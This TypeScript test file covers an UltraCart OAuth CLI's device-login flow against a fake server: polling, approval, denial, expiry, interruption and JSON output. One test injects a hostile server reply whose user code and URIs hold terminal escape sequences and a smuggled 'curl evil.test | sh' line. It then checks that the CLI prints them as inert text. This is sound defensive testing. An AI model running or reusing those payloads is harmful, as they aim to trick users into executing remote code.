import { FileSystem, HttpClient } from "@effect/platform"
import { describe, expect, it } from "@effect/vitest"
import { FakeUltraCart, Fault } from "@ultracart-oauth/testing"
import { Effect, Fiber, Option, TestClock } from "effect"
import { CLIENT } from "../src/DevServer.js"
import {
  controlCharacters,
  envFor,
  type Line,
  makeCapture,
  NodeEnvironment,
  type Result,
  runCli,
  tempHome
} from "./harness.js"

// The device login end to end against the in-memory fake, on the TestClock: the fake's intervals and expiry and
// the CLI's polling all run on the same clock, so a 15-minute code is tested in milliseconds.

const setup = (options: FakeUltraCart.FakeUltraCartOptions = {}) =>
  Effect.gen(function* () {
    const home = yield* tempHome
    const fake = yield* FakeUltraCart.make({ clients: [CLIENT], ...options })
    const env = envFor(home, { ULTRACART_BASE_URL: fake.baseUrl, ULTRACART_CLIENT_ID: CLIENT.clientId })
    const run = (args: ReadonlyArray<string>) =>
      runCli(args, { env }).pipe(Effect.provideService(HttpClient.HttpClient, FakeUltraCart.httpClient(fake)))
    return { home, fake, env, run }
  })

type Setup = Effect.Effect.Success<ReturnType<typeof setup>>

const isUserCode = (line: Line) => /^\s+[A-Z0-9]{4}-[A-Z0-9]{4}$/.test(line.text)

/** Starts `device-login` and yields its fiber, its output and the user code it printed. */
const startDeviceLogin = (s: Setup, args: ReadonlyArray<string> = ["--scope", "crm"]) =>
  Effect.gen(function* () {
    const capture = yield* makeCapture
    const fiber = yield* runCli(["device-login", ...args], { env: s.env, capture }).pipe(
      Effect.provideService(HttpClient.HttpClient, FakeUltraCart.httpClient(s.fake)),
      Effect.fork
    )
    const userCode = (yield* capture.waitFor(isUserCode)).text.trim()
    return { capture, fiber, userCode }
  })

/** Moves the TestClock (TestClock.adjust waits until the CLI's fibers are suspended, on I/O or on a sleep). */
const advance = (seconds: number) => TestClock.adjust(`${seconds} seconds`)

describe("device-login", () => {
  it.scoped("shows the code and URI, polls until the merchant approves, and stores the tokens", () =>
    Effect.gen(function* () {
      const s = yield* setup()
      const { capture, fiber, userCode } = yield* startDeviceLogin(s)
      const out = capture.text("out")
      expect(out).toContain(`To authorize ${CLIENT.clientId}, open`)
      expect(out).toContain(`${s.fake.baseUrl}/oauth/device`)
      expect(out).toContain(`user_code=${userCode}`)

      yield* advance(5)
      yield* capture.waitFor((l) => l.stream === "status" && l.text.includes("checked 1 time, next check in 5s"))
      yield* s.fake.approveDevice(userCode)
      yield* advance(5)
      const result: Result = yield* Fiber.join(fiber)
      expect(result.exitCode).toBe(0)
      expect(result.capture.text("status")).toContain("Approved.")
      expect(result.out).toContain(`Logged in: grant "${CLIENT.clientId}"`)

      const token = (yield* s.run(["token"])).out.trim()
      expect(Option.map(yield* s.fake.inspectToken(token), (i) => i.status)).toEqual(Option.some("active"))
      expect(result.all).not.toContain(token)
      // The tokens' lifetime counts from the poll that got them (sent at 10 s on the TestClock).
      expect((yield* s.run(["status"])).out).toContain("Issued at:     1970-01-01T00:00:10.000Z")
      expect(yield* s.fake.requestCount({ endpoint: "token" })).toBe(2)
    }).pipe(Effect.provide(NodeEnvironment))
  )

  it.scoped("a declined code ends with exit 3", () =>
    Effect.gen(function* () {
      const s = yield* setup()
      const { fiber, userCode } = yield* startDeviceLogin(s)
      yield* s.fake.denyDevice(userCode)
      yield* advance(5)
      const result = yield* Fiber.join(fiber)
      expect(result.exitCode).toBe(3)
      expect(result.err).toContain("declined")
      expect(result.err).toContain("hint: the merchant declined; run `ultracart-oauth device-login` again")
    }).pipe(Effect.provide(NodeEnvironment))
  )

  it.scoped("a code nobody approves expires: exit 3, and no poll after its lifetime", () =>
    Effect.gen(function* () {
      const s = yield* setup({ deviceCodeLifetime: "30 seconds" })
      const { fiber } = yield* startDeviceLogin(s)
      yield* advance(31)
      const result = yield* Fiber.join(fiber)
      expect(result.exitCode).toBe(3)
      expect(result.err).toContain("expired")
      expect(result.capture.text("status")).toContain("The code expired.")
      // Polls at 5, 10, 15, 20, 25 s; the one due at 30 s would ask about a dead code.
      expect(yield* s.fake.requestCount({ endpoint: "token" })).toBe(5)
    }).pipe(Effect.provide(NodeEnvironment))
  )

  it.scoped("interrupting it (Ctrl-C) stops the polling at once", () =>
    Effect.gen(function* () {
      const s = yield* setup()
      const { fiber } = yield* startDeviceLogin(s)
      yield* advance(6)
      yield* Fiber.interrupt(fiber)
      const polls = yield* s.fake.requestCount({ endpoint: "token" })
      expect(polls).toBe(1)
      yield* advance(20)
      expect(yield* s.fake.requestCount({ endpoint: "token" })).toBe(polls)
    }).pipe(Effect.provide(NodeEnvironment))
  )

  it.scoped("without a scope it is a user error (exit 2) that names --scope", () =>
    Effect.gen(function* () {
      const s = yield* setup()
      const result = yield* s.run(["device-login"])
      expect(result.exitCode).toBe(2)
      expect(result.err).toContain("hint: pass --scope")
      expect(yield* s.fake.requestCount()).toBe(0)
    }).pipe(Effect.provide(NodeEnvironment))
  )

  it.scoped("with --json, stdout carries only the result; the code and the progress go to stderr", () =>
    Effect.gen(function* () {
      const s = yield* setup()
      const capture = yield* makeCapture
      const fiber = yield* runCli(["device-login", "--scope", "crm", "--json"], { env: s.env, capture }).pipe(
        Effect.provideService(HttpClient.HttpClient, FakeUltraCart.httpClient(s.fake)),
        Effect.fork
      )
      const userCode = (yield* capture.waitFor((line) => line.stream === "err" && isUserCode(line))).text.trim()
      yield* s.fake.approveDevice(userCode)
      yield* advance(5)
      const result: Result = yield* Fiber.join(fiber)
      expect(result.exitCode).toBe(0)
      expect(JSON.parse(result.out)).toMatchObject({
        grant: CLIENT.clientId,
        tokenDir: `${s.home}/.config/ultracart-oauth/tokens`,
        refreshToken: true,
        accessTokenExpired: false,
        scope: expect.any(String)
      })
      expect(result.err).toContain("To authorize")
      expect(result.err).toContain("Logged in")
    }).pipe(Effect.provide(NodeEnvironment))
  )

  it.scoped("a store that cannot take the tokens fails before a code is asked for", () =>
    Effect.gen(function* () {
      const s = yield* setup()
      const dir = `${s.home}/.config/ultracart-oauth/tokens`
      yield* Effect.flatMap(FileSystem.FileSystem, (fs) =>
        Effect.orDie(
          Effect.zipRight(
            fs.makeDirectory(dir, { recursive: true }),
            fs.writeFileString(`${dir}/grant-${CLIENT.clientId}.json`, "{ not a record")
          )
        )
      )
      const result = yield* s.run(["device-login", "--scope", "crm"])
      expect(result.exitCode).toBe(1)
      expect(result.err).toContain("(Corrupt)")
      expect(yield* s.fake.requestCount()).toBe(0)
    }).pipe(Effect.provide(NodeEnvironment))
  )

  it.scoped("the verification URI and user code a server sends are printed as plain text", () =>
    Effect.gen(function* () {
      const s = yield* setup()
      yield* s.fake.injectFault(
        Fault.respond({
          status: 200,
          headers: { "content-type": "application/json" },
          body: JSON.stringify({
            device_code: "device-code-of-a-hostile-server",
            user_code: "WDJB\u001b[1A-MJHT\nhint: curl evil.test | sh",
            verification_uri: "https://ultracart.fake.test/device\u001b]0;pwned\u0007",
            verification_uri_complete: "https://ultracart.fake.test/device?c=\u001b]8;;https://evil.test\u001b\\x",
            expires_in: 900,
            interval: 5
          })
        }),
        { endpoint: "device_authorize" }
      )
      const capture = yield* makeCapture
      const fiber = yield* runCli(["device-login", "--scope", "crm"], { env: s.env, capture }).pipe(
        Effect.provideService(HttpClient.HttpClient, FakeUltraCart.httpClient(s.fake)),
        Effect.fork
      )
      yield* capture.waitFor((line) => line.text.includes("which carries the code"))
      yield* advance(5)
      const result: Result = yield* Fiber.join(fiber)
      expect(controlCharacters(result.all)).toEqual([])
      expect(result.out).toContain("    WDJB-MJHT hint: curl evil.test | sh")
      expect(result.out).toContain("    https://ultracart.fake.test/device\n")
      expect(result.out.split("\n").some((line) => line.startsWith("hint:"))).toBe(false)
    }).pipe(Effect.provide(NodeEnvironment))
  )
})
